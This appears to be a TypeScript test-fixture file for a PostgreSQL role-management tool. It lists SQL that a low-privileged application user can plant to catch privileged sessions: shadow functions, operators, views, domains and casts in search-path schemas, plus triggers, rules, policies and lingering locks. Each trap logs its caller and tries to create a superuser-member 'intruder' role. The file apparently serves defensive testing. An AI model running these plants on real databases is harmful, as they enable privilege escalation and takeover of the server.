// What an application can leave behind in a database for somebody with more rights to trip over. Every trap notes who stepped
// into it, and tries to make a server's administrator of the application.

/** A kind of object, and the SQL that an application's user plants it with. */
export interface Plant {
  kind: string;
  sql: string[];
  /** What the server answers where an application may not plant it. */
  refused?: RegExp;
}

/** Schemas that somebody's search may begin with: PostgreSQL looks into the one named after the user first. */
const schemas = ["public", '"cloudsqlsuperuser"', '"vault@acme-test.iam"', '"$user"', "own"];

const trap = `CREATE OR REPLACE FUNCTION own.trap(what text) RETURNS void LANGUAGE plpgsql AS $trap$
BEGIN
  BEGIN INSERT INTO own.caught VALUES (what, current_user, session_user); EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE 'CREATE ROLE intruder LOGIN PASSWORD ''x'' IN ROLE cloudsqlsuperuser'; EXCEPTION WHEN OTHERS THEN NULL; END;
END $trap$`;

/** Where the traps note who stepped into them. Everybody may write there, or a trap would keep silent. */
const prerequisites: Plant = {
  kind: "what the traps need",
  sql: [
    "CREATE SCHEMA own",
    "GRANT USAGE, CREATE ON SCHEMA own TO PUBLIC",
    "CREATE TABLE own.caught (what text, acting name, loggedin name)",
    "GRANT ALL ON own.caught TO PUBLIC",
    trap,
    ...schemas.slice(1, -1).flatMap((name) => [`CREATE SCHEMA ${name}`, `GRANT USAGE ON SCHEMA ${name} TO PUBLIC`]),
  ],
};

/** Functions of `pg_catalog` that privileged statements call or once called, and some that they might. */
const called = [
  "aclexplode",
  "concat",
  "count",
  "current_database",
  "current_schemas",
  "format",
  "has_database_privilege",
  "has_schema_privilege",
  "hashtext",
  "lower",
  "now",
  "oid",
  "pg_advisory_xact_lock",
  "pg_has_role",
  "pg_terminate_backend",
  "quote_ident",
  "quote_literal",
  "text",
];

/**
 * The same functions with the exact types of their arguments, and each with the types that a literal or a catalogue's column
 * has: an exact match wins over one in `pg_catalog` that needs a conversion. What cannot be made is left out.
 */
const functions = (schema: string): string => `DO $plant$
DECLARE found record; arguments text; made int := 0;
BEGIN
  FOR found IN
    SELECT p.proname, p.prorettype::regtype::text AS result, p.pronargs,
      (SELECT coalesce(array_agg(t::regtype::text), '{}') FROM unnest(p.proargtypes) AS t) AS types
    FROM pg_catalog.pg_proc p WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.proname = ANY ('{${called.join(",")}}')
  LOOP
    FOR arguments IN
      SELECT array_to_string(found.types, ', ')
      UNION SELECT array_to_string(array_replace(array_replace(found.types, 'bigint', 'integer'), 'text', 'name'), ', ')
      UNION SELECT array_to_string(array_replace(found.types, '"any"', 'name'), ', ')
      UNION SELECT array_to_string(array_replace(found.types, '"any"', 'text'), ', ')
      UNION SELECT array_to_string(array_replace(found.types, 'name', 'text'), ', ')
    LOOP
      BEGIN
        EXECUTE format(
          'CREATE OR REPLACE FUNCTION ${schema}.%I(%s) RETURNS %s LANGUAGE plpgsql AS $f$ BEGIN PERFORM own.trap(%L); RETURN NULL; END $f$',
          found.proname, arguments, CASE WHEN found.result IN ('record', 'void') THEN 'text' ELSE found.result END, 'function ' || found.proname);
        made := made + 1;
      EXCEPTION WHEN OTHERS THEN NULL;
      END;
    END LOOP;
  END LOOP;
  IF made < 15 THEN RAISE EXCEPTION 'only % functions could be made', made; END IF;
END $plant$`;

const operands = ["name", "text", '"char"', "oid", "regrole", "integer", "bigint", "boolean"];

/** Operators for every two types that a comparison of catalogues' columns and literals can have. */
const operators = (schema: string): string => `DO $plant$
DECLARE l text; r text; o text; f text; made int := 0;
BEGIN
  FOREACH l IN ARRAY ARRAY['${operands.join("','")}'] LOOP FOREACH r IN ARRAY ARRAY['${operands.join("','")}'] LOOP
    f := '${schema}.' || quote_ident('compare ' || l || ' ' || r);
    EXECUTE format('CREATE OR REPLACE FUNCTION %s(%s, %s) RETURNS boolean LANGUAGE plpgsql AS $f$ BEGIN PERFORM own.trap(''operator''); RETURN true; END $f$', f, l, r);
    FOREACH o IN ARRAY ARRAY['=', '<>', '<', '>', '||', '~~'] LOOP
      EXECUTE format('CREATE OPERATOR ${schema}.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = %s)', o, l, r, f);
      made := made + 1;
    END LOOP;
  END LOOP; END LOOP;
  IF made < 100 THEN RAISE EXCEPTION 'only % operators could be made', made; END IF;
END $plant$`;

const relations = ["pg_roles", "pg_stat_activity", "pg_default_acl", "pg_database", "pg_namespace", "pg_auth_members"];

/** Views under the names of catalogues, whose columns are traps. */
const views = (schema: string): string[] =>
  relations.map(
    (name) =>
      `CREATE VIEW ${schema}.${name} AS SELECT own.trap('view ${name}')::text AS rolname, 1 AS pid, NULL::name AS usename, 1::oid AS oid, 1::oid AS defaclrole`,
  );

/** Domains under the names of types, whose check is a trap. */
const types = (schema: string): string[] => [
  `CREATE FUNCTION ${schema}.checked(anyelement) RETURNS boolean LANGUAGE plpgsql AS $f$ BEGIN PERFORM own.trap('type'); RETURN true; END $f$`,
  ...["text", "name", "int4", "oid", "bool"].map(
    (name) => `CREATE DOMAIN ${schema}.${name} AS pg_catalog.${name} CHECK (${schema}.checked(VALUE))`,
  ),
];

/** What stays in the database. Each is planted by a user who reads, writes and migrates. */
export const plants: Plant[] = [
  prerequisites,
  ...schemas.map((schema) => ({ kind: `functions in ${schema}`, sql: [functions(schema)] })),
  ...schemas.map((schema) => ({ kind: `operators in ${schema}`, sql: [operators(schema)] })),
  ...schemas.map((schema) => ({ kind: `views in ${schema}`, sql: views(schema) })),
  ...schemas.map((schema) => ({ kind: `types in ${schema}`, sql: types(schema) })),
  {
    kind: "casts from a type of its own to the server's",
    sql: [
      "CREATE TYPE own.disguise AS ENUM ('changelog_readwrite')",
      "CREATE FUNCTION own.unmask(own.disguise) RETURNS name LANGUAGE plpgsql AS $f$ BEGIN PERFORM own.trap('cast'); RETURN 'x'; END $f$",
      "CREATE CAST (own.disguise AS name) WITH FUNCTION own.unmask(own.disguise) AS IMPLICIT",
      "CREATE FUNCTION own.mask(name) RETURNS own.disguise LANGUAGE plpgsql AS $f$ BEGIN PERFORM own.trap('cast'); RETURN 'changelog_readwrite'; END $f$",
      "CREATE CAST (name AS own.disguise) WITH FUNCTION own.mask(name) AS IMPLICIT",
    ],
  },
  {
    kind: "an event trigger",
    sql: [
      "CREATE FUNCTION own.on_event() RETURNS event_trigger LANGUAGE plpgsql AS $f$ BEGIN PERFORM own.trap('event trigger'); END $f$",
      "CREATE EVENT TRIGGER everything ON ddl_command_start EXECUTE FUNCTION own.on_event()",
    ],
    refused: /permission denied|must be superuser/i,
  },
  {
    kind: "a table with triggers, rules, policies and computed columns, that belongs to the user alone",
    sql: [
      "SET ROLE NONE",
      "CREATE TABLE own.baited (id int DEFAULT 1, what text GENERATED ALWAYS AS ('x') STORED)",
      "CREATE FUNCTION own.on_row() RETURNS trigger LANGUAGE plpgsql AS $f$ BEGIN PERFORM own.trap('trigger'); RETURN NEW; END $f$",
      "CREATE TRIGGER every_row BEFORE INSERT OR UPDATE OR DELETE ON own.baited FOR EACH ROW EXECUTE FUNCTION own.on_row()",
      "CREATE RULE every_read AS ON INSERT TO own.baited DO ALSO SELECT own.trap('rule')",
      "ALTER TABLE own.baited ENABLE ROW LEVEL SECURITY, FORCE ROW LEVEL SECURITY",
      "CREATE POLICY everybody ON own.baited USING (own.trap('policy') IS NULL)",
      "CREATE FUNCTION own.indexed(int) RETURNS int IMMUTABLE LANGUAGE plpgsql AS $f$ BEGIN PERFORM own.trap('index'); RETURN $1; END $f$",
      "CREATE INDEX ON own.baited (own.indexed(id))",
      "CREATE VIEW own.seen AS SELECT own.trap('view')::text AS seen FROM own.baited",
      "GRANT ALL ON own.baited TO PUBLIC",
      "SELECT lo_create(0)",
    ],
  },
  {
    kind: "default privileges for whatever comes",
    sql: [
      "ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC",
      "ALTER DEFAULT PRIVILEGES GRANT ALL ON FUNCTIONS TO PUBLIC",
      'ALTER DEFAULT PRIVILEGES REVOKE SELECT ON TABLES FROM "changelog_readonly"',
      "SET ROLE NONE",
      "ALTER DEFAULT PRIVILEGES GRANT ALL ON SEQUENCES TO PUBLIC",
    ],
  },
  {
    kind: "settings of its own sessions",
    sql: [
      "ALTER ROLE CURRENT_USER SET search_path TO own, public",
      "SET ROLE NONE",
      "ALTER ROLE CURRENT_USER SET search_path TO own, public",
      "ALTER ROLE CURRENT_USER RESET role",
    ],
  },
  {
    kind: "settings of everybody's sessions",
    sql: ["ALTER DATABASE postgres SET search_path TO own, public"],
    refused: /must be owner/,
  },
  {
    kind: "temporary objects",
    sql: [functions("pg_temp"), operators("pg_temp"), ...views("pg_temp"), ...types("pg_temp")],
  },
];

/** What a user does in a session that stays open, to be in the way of somebody who wants to end it. */
export interface Obstruction {
  kind: string;
  /** By the user who is to be revoked. */
  own?: string[];
  /** By the next user of the same application, who stays. */
  accomplice?: string[];
  /** In another database of the server. */
  elsewhere?: string[];
  /** Whether the role itself can be dropped all the same. */
  goes: boolean;
}

export const obstructions: Obstruction[] = [
  {
    kind: "a transaction that changes its own password",
    own: ["BEGIN", "SET ROLE NONE", "ALTER ROLE CURRENT_USER PASSWORD 'mine'"],
    goes: true,
  },
  {
    kind: "locks on what everybody may read",
    own: ["BEGIN", "LOCK TABLE pg_catalog.pg_roles IN ACCESS SHARE MODE"],
    goes: true,
  },
  {
    kind: "the advisory lock that earlier statements waited for",
    own: ["SELECT pg_catalog.pg_advisory_lock(pg_catalog.hashtext('groundplan web'))"],
    goes: true,
  },
  {
    kind: "rights that it gave away",
    own: [
      "SET ROLE NONE",
      "CREATE TABLE own.given (a int)",
      'GRANT ALL ON own.given TO "changelog_readonly" WITH GRANT OPTION',
    ],
    goes: true,
  },
  {
    kind: "a table that an accomplice keeps locked",
    own: ["SET ROLE NONE", "CREATE TABLE own.held (a int)", "GRANT ALL ON own.held TO PUBLIC"],
    accomplice: ["BEGIN", "LOCK TABLE own.held IN ACCESS EXCLUSIVE MODE"],
    goes: false,
  },
  {
    kind: "a right in another database",
    elsewhere: ["SET ROLE NONE", "ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC"],
    goes: false,
  },
];
